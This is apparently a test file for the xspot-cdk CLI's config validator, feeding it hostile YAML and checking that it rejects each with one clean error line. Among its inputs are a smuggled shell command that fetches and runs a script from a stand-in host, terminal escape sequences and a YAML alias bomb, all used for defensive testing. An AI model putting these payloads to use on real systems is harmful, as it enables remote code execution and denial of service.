/**
 * Hostile and mutated configs through the real CLI (`xspot-cdk check-config` in a subprocess):
 * whatever the file holds, the CLI exits 1 with a clear line that names the field (or the file),
 * never a stack trace, never a native crash, and echoes nothing raw from the file.
 */
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { runCli } from '../support/cli';

const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'xspot-hostile-'));
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));
const write = (name: string, text: string | Buffer) => {
  const f = path.join(dir, name);
  fs.writeFileSync(f, text);
  return f;
};

const manyTags = Object.fromEntries(Array.from({ length: 100_000 }, (_, i) => [`t${i.toString(36)}`, 'v']));
// A flow mapping keeps the 100,000 tags under the 1 MiB file limit, so they reach the schema.
const tagsYaml = `workers:\n  instanceTags: {${Object.keys(manyTags)
  .map((k) => `${k}: v`)
  .join(',')}}\n`;
const fifo = path.join(dir, 'hook-fifo.sh');
execFileSync('mkfifo', [fifo]);

interface Case {
  readonly name: string;
  /** The config text, or a path to pass as --config as is. */
  readonly yaml?: string;
  readonly configPath?: string;
  /** What the one clear line must contain. */
  readonly line: RegExp;
}

const CASES: Case[] = [
  {
    name: 'a Dockerfile that is /dev/zero',
    yaml: 'containers:\n  dockerfiles:\n    docker-base: /dev/zero\n',
    line: /error \[dockerfile-unreadable\] .*containers\.dockerfiles\.docker-base = "\/dev\/zero": \/dev\/zero is not a regular file/,
  },
  {
    name: 'a hook script that is /dev/zero',
    yaml: 'containers:\n  scripts:\n    startup: /dev/zero.sh\n',
    line: /error \[hook-script-unreadable\] .*containers\.scripts\.startup = "\/dev\/zero\.sh": \/dev\/zero\.sh is not found/,
  },
  {
    name: 'a hook script that is a FIFO (must not hang)',
    yaml: `containers:\n  scripts:\n    startup: ${fifo}\n`,
    line: /error \[hook-script-unreadable\] .*hook-fifo\.sh is not a regular file/,
  },
  {
    name: 'the config file is /dev/zero',
    configPath: '/dev/zero',
    line: /^error: config file \/dev\/zero is not a regular file/,
  },
  {
    name: 'a config file over the size limit',
    configPath: write('huge.yaml', `# ${'x'.repeat(2 * 1024 * 1024)}\n`),
    line: /^error: config file .*huge\.yaml is \d+ bytes, larger than the 1048576-byte limit/,
  },
  {
    name: '100,000 worker instance tags',
    yaml: tagsYaml,
    line: /error \[out-of-range\] .*workers\.instanceTags = .*: 100000 tags: AWS allows 50 tags per resource and xspot-cdk adds xspot:deployment \(allowed: <= 49 tags/,
  },
  {
    name: 'a 200,000-character unknown key',
    // An explicit key (?) may be longer than YAML's 1024-character limit for implicit keys.
    yaml: `xspot:\n  ? ${'k'.repeat(200_000)}\n  : 1\n`,
    line: /error \[unknown-key\] .*xspot\["k{60}"\.\.\.\(200000 characters\)\] = 1: unknown key/,
  },
  {
    name: 'an unknown key holding terminal escape sequences',
    yaml: 'xspot:\n  "evil\\e[2J\\e]0;pwned\\a": 1\n',
    line: /error \[unknown-key\] .*xspot\["evil\\u001b\[2J\\u001b\]0;pwned\\u0007"\] = 1: unknown key/,
  },
  {
    name: '.inf for a number',
    yaml: 'controllers:\n  maxCapacity: .inf\n',
    line: /error \[invalid-value\] .*controllers\.maxCapacity = Infinity: is not a finite number .*\(allowed: a finite number\)/,
  },
  {
    name: '.nan for a number',
    yaml: 'containers:\n  randBackoffRatio: .nan\n',
    line: /error \[invalid-value\] .*containers\.randBackoffRatio = NaN: is not a finite number/,
  },
  {
    name: 'zero for a positive number',
    yaml: 'logs:\n  syncIntervalMinutes: 0\n',
    line: /error \[out-of-range\] .*logs\.syncIntervalMinutes = 0: must be greater than 0 \(allowed: > 0\)/,
  },
  {
    name: 'an unquoted account id with a leading zero',
    yaml: 'deployment:\n  account: 012345678901\n',
    line: /error \[invalid-type\] .*deployment\.account = 12345678901: YAML read the unquoted "012345678901" as the number 12345678901, which changes it: quote it \(allowed: a string in quotes: "012345678901"\)/,
  },
  {
    name: 'a controller type with a typo, even with the docker volume set',
    yaml: 'controllers:\n  instanceType: m5d.2xlarg\n  dockerVolumeGb: 500\n',
    line: /error \[instance-type-unknown\] .*controllers\.instanceType = "m5d\.2xlarg": m5d has no size 2xlarg \(allowed: m5d\.large, .*m5d\.2xlarge/,
  },
  {
    name: 'a made-up worker family',
    yaml: 'workers:\n  spotFleetTypes: [r5x]\n',
    line: /error \[instance-type-unknown\] .*workers\.spotFleetTypes\[0\] = "r5x": r5x is not an EC2 instance family/,
  },
  {
    name: 'a subnet AZ of another region',
    yaml: 'deployment:\n  region: ap-northeast-1\nnetwork:\n  existingVpc:\n    vpcId: vpc-0a1b2c3d4e5f60718\n    cidrBlocks: [10.0.0.0/16]\n    privateSubnets:\n      - { id: subnet-0a1b2c3d4e5f60718, cidr: 10.0.1.0/24, availabilityZone: us-east-1a }\n',
    line: /error \[az-not-in-region\] .*network\.existingVpc\.privateSubnets\[0\]\.availabilityZone = "us-east-1a": is an availability zone of us-east-1, not of deployment\.region ap-northeast-1/,
  },
  {
    name: 'healthy percentages AWS refuses (50 and 200)',
    yaml: 'upgrade:\n  minHealthyPercentage: 50\n  maxHealthyPercentage: 200\n',
    line: /error \[upgrade-healthy-gap\] .*upgrade\.maxHealthyPercentage = 200: is 150 above minHealthyPercentage 50/,
  },
  {
    name: 'a /8 VPC',
    yaml: 'network:\n  newVpc:\n    cidr: 10.0.0.0/8\n',
    line: /error \[vpc-cidr-size\] .*network\.newVpc\.cidr = "10\.0\.0\.0\/8": a \/8 VPC is larger than Amazon VPC allows/,
  },
  {
    name: 'a role name prefix that makes role names over 64 characters',
    yaml: `deployment:\n  name: ${'d'.repeat(24)}\niam:\n  roleNamePrefix: ${'p'.repeat(32)}\n`,
    line: /error \[iam-role-name-too-long\] .*iam\.roleNamePrefix = "p{32}": .* is 70 characters; IAM allows 64/,
  },
  {
    name: 'a default job larger than the largest worker',
    yaml: 'workers:\n  onDemandTypes: [m5.large]\n  spotFleetTypes: [m5.large]\nscheduler:\n  defaultMemoryGb: 64\n',
    line: /error \[default-job-too-large\] .*scheduler\.defaultMemoryGb = 64: is more than the 8 GB of the largest configured worker/,
  },
  {
    name: 'a size that does not exist (r5.96xlarge)',
    yaml: 'workers:\n  onDemandTypes: [r5.96xlarge]\n',
    line: /error \[instance-type-unknown\] .*workers\.onDemandTypes\[0\] = "r5\.96xlarge": r5 has no size 96xlarge/,
  },
  {
    name: 'two worker mounts on one mount point',
    yaml: 'workerImage:\n  mounts:\n    - { server: 10.0.5.10, export: /v1, mountPoint: /fsx }\n    - { server: 10.0.5.11, export: /v2, mountPoint: /fsx }\n',
    line: /error \[mount-point-duplicate\] .*workerImage\.mounts\[1\]\.mountPoint = "\/fsx"/,
  },
  {
    name: 'a worker mount over /tmp',
    yaml: 'workerImage:\n  mounts:\n    - { server: 10.0.5.10, export: /v1, mountPoint: /tmp }\n',
    line: /error \[mount-over-system-dir\] .*workerImage\.mounts\[0\]\.mountPoint = "\/tmp": would hide the system directory \/tmp/,
  },
  {
    name: 'a log_upload.env pass-through value holding a command',
    yaml: 'xspot:\n  extra:\n    logUploadEnv:\n      X: "a; curl evil.example | sh"\n',
    line: /error \[invalid-value\] .*xspot\.extra\.logUploadEnv\.X = "a; curl evil\.example \| sh": must be up to 1024 letters/,
  },
  {
    name: 'a config.toml pass-through key over a rendered one',
    yaml: 'xspot:\n  extra:\n    configToml:\n      aws:\n        overlay_prefix: 10.0.0.0/24\n',
    line: /error \[extra-overrides-rendered\] .*xspot\.extra\.configToml\.aws\.overlay_prefix = "10\.0\.0\.0\/24"/,
  },
  {
    name: 'a YAML alias bomb',
    yaml: `a: &a [x, x, x, x, x, x, x, x, x]\n${Array.from({ length: 12 }, (_, i) => `${String.fromCharCode(98 + i)}: &${String.fromCharCode(98 + i)} [*${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}, *${String.fromCharCode(97 + i)}]`).join('\n')}\n`,
    line: /^error: .*(alias|Excessive)/i,
  },
  {
    name: 'deeply nested flow sequences (20,000 levels)',
    yaml: `xspot: ${'['.repeat(20_000)}${']'.repeat(20_000)}\n`,
    line: /^error: .*nested more than 16 levels deep/,
  },
  {
    name: 'nested 40 levels (parses, refused before it is walked)',
    yaml: `xspot: ${'['.repeat(40)}${']'.repeat(40)}\n`,
    line: /^error: .*:1:\d+: the config is nested more than 16 levels deep/,
  },
  {
    name: 'binary junk',
    yaml: '\u0000\u0001\u0002\u00ff\u001b[31m',
    line: /^error: /,
  },
  {
    name: 'a list instead of a mapping',
    yaml: '- a\n- b\n',
    line: /^error: .*the config must be a YAML mapping/,
  },
];

describe('hostile configs: exit 1, one clear line, no stack trace', () => {
  test.each(CASES.map((c) => [c.name, c] as const))('%s', (_name, c) => {
    const file = c.configPath ?? write(`${c.name.replace(/[^a-z0-9]+/gi, '-')}.yaml`, c.yaml ?? '');
    const r = runCli(['check-config', '--config', file]);
    const out = `${r.stdout}${r.stderr}`;
    expect(r.code).toBe(1);
    expect(out).not.toMatch(/\n\s+at .+:\d+:\d+\)?\n/);
    expect(out).not.toMatch(/std::bad_alloc|FATAL ERROR|RangeError|TypeError|Maximum call stack/);
    // Nothing raw from the file reaches the terminal: no escape, bell or other control characters.
    const controls = [...out].filter((ch) => {
      const code = ch.charCodeAt(0);
      return (code < 32 && code !== 9 && code !== 10) || code === 127;
    });
    expect(controls).toEqual([]);
    const lines = out.split('\n').filter((l) => /^error/.test(l));
    expect(lines.length).toBeGreaterThanOrEqual(1);
    expect(lines.some((l) => c.line.test(l))).toBe(true);
    for (const l of lines) expect(l.length).toBeLessThan(2000);
  });
});
